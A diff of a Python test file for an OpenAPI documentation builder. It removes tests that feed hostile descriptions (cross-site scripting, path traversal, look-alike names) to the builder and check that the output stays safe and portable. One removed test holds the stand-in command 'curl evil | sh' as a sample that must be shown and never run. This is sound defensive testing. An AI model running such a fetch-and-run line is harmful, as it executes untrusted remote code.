@@ -3,8 +3,6 @@
 import json
 import re
 import sys
-import unicodedata
-from collections import Counter
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -13,10 +11,9 @@ import markdown
 import pytest
 from selectolax.lexbor import LexborHTMLParser
 
-from commands import LANGUAGES, Project, pages, sections
-from harmless import Harmless, shown_text, site_faults
-from hostile import MARKED, PAYLOADS, PLAIN, described
-from places import REPOSITORY, shared
+from commands import LANGUAGES, Project, pages
+from harmless import Harmless, assert_portable, shown_text, site_faults, skeleton
+from hostile import MARKED, PAYLOADS, PLAIN, built, described
 from sdkref.config import settings_for
 from sdkref.diagnostics import Diagnostics
 from sdkref.markdown_extension import SdkrefExtension
@@ -24,7 +21,6 @@ from sdkref.output.link_check import check_site
 from sdkref.output.markdown_pages import generated_pages
 from sdkref.output.mounting import Library
 from sdkref.progress import Silent
-from sdkref.readers.openapi_words import METHODS
 from sdkref.reading import read_sources
 from sdkref.references import build_references
 
@@ -73,43 +69,6 @@ def _nothing_runs() -> Iterator[None]:
     assert _RUN == []
 
 
-@pytest.fixture(scope="session")
-def plain(tmp_path_factory: pytest.TempPathFactory, cache: Path) -> Path:
-    """Return the site of the description that says nothing hostile."""
-    project = Project(tmp_path_factory.mktemp("plain"), cache)
-    return built(project, described(PLAIN))
-
-
-@pytest.fixture(scope="session")
-def harmless(demo: Path, plain: Path) -> Harmless:
-    return Harmless(demo, plain)
-
-
-def built(project: Project, description: dict[str, Any]) -> Path:
-    path = project.write("openapi.json", json.dumps(description))
-    ended = project.run("build", path.name)
-    assert ended.code == 0, ended.err
-    assert {each.name for each in project.folder.iterdir()} == {"openapi.json", "site"}
-    return project.site
-
-
-def skeleton(site: Path) -> list[tuple[str, ...]]:
-    """Return how each page is built up: its headings' levels and its sections' tabs and labels."""
-    found: list[tuple[str, ...]] = []
-    for _, tree in pages(site):
-        found += [(node.tag or "",) for node in tree.css("article h1, article h2")]
-        for section in tree.css("section"):
-            labels = [node.attributes["id"] or "" for node in section.css("p[role=heading][id]")]
-            found.append(
-                (
-                    *(name for name in section.attributes if name.startswith("data-")),
-                    *(node.attributes["data-language"] or "" for node in section.css("[data-language]")),
-                    *sorted(label.rpartition(":")[2] for label in labels),
-                )
-            )
-    return sorted(found)
-
-
 @pytest.mark.parametrize(
     "html",
     [
@@ -145,87 +104,6 @@ def test_a_payload_in_every_text(project: Project, plain: Path, harmless: Harmle
     shown, expected = (set(re.findall(r"text-[a-z-]+\.", shown_text(each))) for each in (site, plain))
     assert expected - shown == set()
     assert_portable(site)
-
-
-def rows(*folders: str) -> list[Any]:
-    """Return the hostile descriptions of the folder beside the checkout, by `EXPECT.tsv`."""
-    table = REPOSITORY.parent / "shared" / "hostile" / "EXPECT.tsv"
-    if not table.is_file():
-        return [None]
-    lines = [line.split("\t") for line in table.read_text(encoding="utf-8").splitlines()[1:]]
-    return [
-        pytest.param(name, expected, id=name)
-        for name, expected, *_ in lines
-        if name.partition("/")[0] in folders
-    ]
-
-
-@pytest.mark.parametrize(("name", "expected"), rows("xss", "second", "names", "code"))
-def test_a_hostile_description(project: Project, harmless: Harmless, name: str, expected: str) -> None:
-    path = shared("hostile", *name.split("/"))
-    ended = project.run("build", path)
-    assert f"exit{ended.code}" in expected, ended.err
-    assert "Traceback" not in ended.err
-    assert {each.name for each in project.folder.iterdir()} <= {"site"}
-    if ended.code:
-        return
-    assert site_faults(project.site, harmless) == []
-    assert check_site(project.site) == []
-    assert_portable(project.site)
-    description = json.loads(path.read_text(encoding="utf-8"), parse_int=str)
-    operations = [
-        (f"{method.upper()} {route}", operation)
-        for route, item in description["paths"].items()
-        for method, operation in item.items()
-        if method in METHODS
-    ]
-    assert sections(project.site) == Counter(key for key, _ in operations)
-    models = description.get("components", {}).get("schemas", {})
-    # HTML has no character for NUL.
-    assert sections(project.site, "data-model") == Counter(key.replace("\0", "\ufffd") for key in models)
-    payload = description["info"].get("description")
-    if payload:
-        twin = Project(project.folder.parent / "twin", project.cache)
-        twin.folder.mkdir()
-        text = path.read_text(encoding="utf-8").replace(json.dumps(payload), json.dumps(PLAIN))
-        assert skeleton(project.site) == skeleton(built(twin, json.loads(text)))
-    if name.startswith("second/"):
-        text = shown_text(project.site)
-        for word in re.findall(r"[A-Za-z]{2,}", payload):
-            assert word in text, word
-        assert "site_name" not in text, "a file was included"
-
-
-def assert_portable(site: Path) -> None:
-    """Assert that every path is plain, short, and another path on any file system."""
-    names = [path.relative_to(site).as_posix() for path in site.rglob("*")]
-    folded = Counter(unicodedata.normalize("NFKC", name).casefold() for name in names)
-    assert [name for name, count in folded.items() if count > 1] == []
-    for part in {part for name in names for part in name.split("/")}:
-        assert re.fullmatch(r"[A-Za-z0-9._-]{1,200}", part), part
-        assert not re.fullmatch(r"(con|prn|aux|nul|com\d|lpt\d)(\..*)?|.*\.", part.lower()), part
-    assert not [path for path in site.rglob("*") if path.is_symlink()]
-
-
-@pytest.mark.parametrize(("name", "fewest"), [("case", 4), ("slug", 8), ("unicode", 12), ("traversal", 11)])
-def test_names_that_look_alike_have_pages_of_their_own(project: Project, name: str, fewest: int) -> None:
-    assert project.run("build", shared("hostile", "names", f"{name}.json")).code == 0
-    assert len(list((project.site / "reference").iterdir())) >= fewest
-
-
-def test_numbers_are_exact(project: Project) -> None:
-    assert project.run("build", shared("hostile", "code", "numbers.json")).code == 0
-    text = shown_text(project.site)
-    assert "12345678901234567890123" in text
-    assert "1e400" in text
-    assert not re.search(r"\b(inf|nan|infinity)\b|1\.2345678901234568e", text, re.IGNORECASE)
-
-
-def test_code_of_a_description_is_shown_and_not_run(project: Project) -> None:
-    assert project.run("build", shared("hostile", "code", "install-command.json")).code == 0
-    text = shown_text(project.site)
-    assert "curl evil | sh" in text
-    assert "curl evil|sh" not in text, "an install line is never the description's"
 
 
 def test_a_site_with_dangerous_companions(project: Project, harmless: Harmless) -> None:
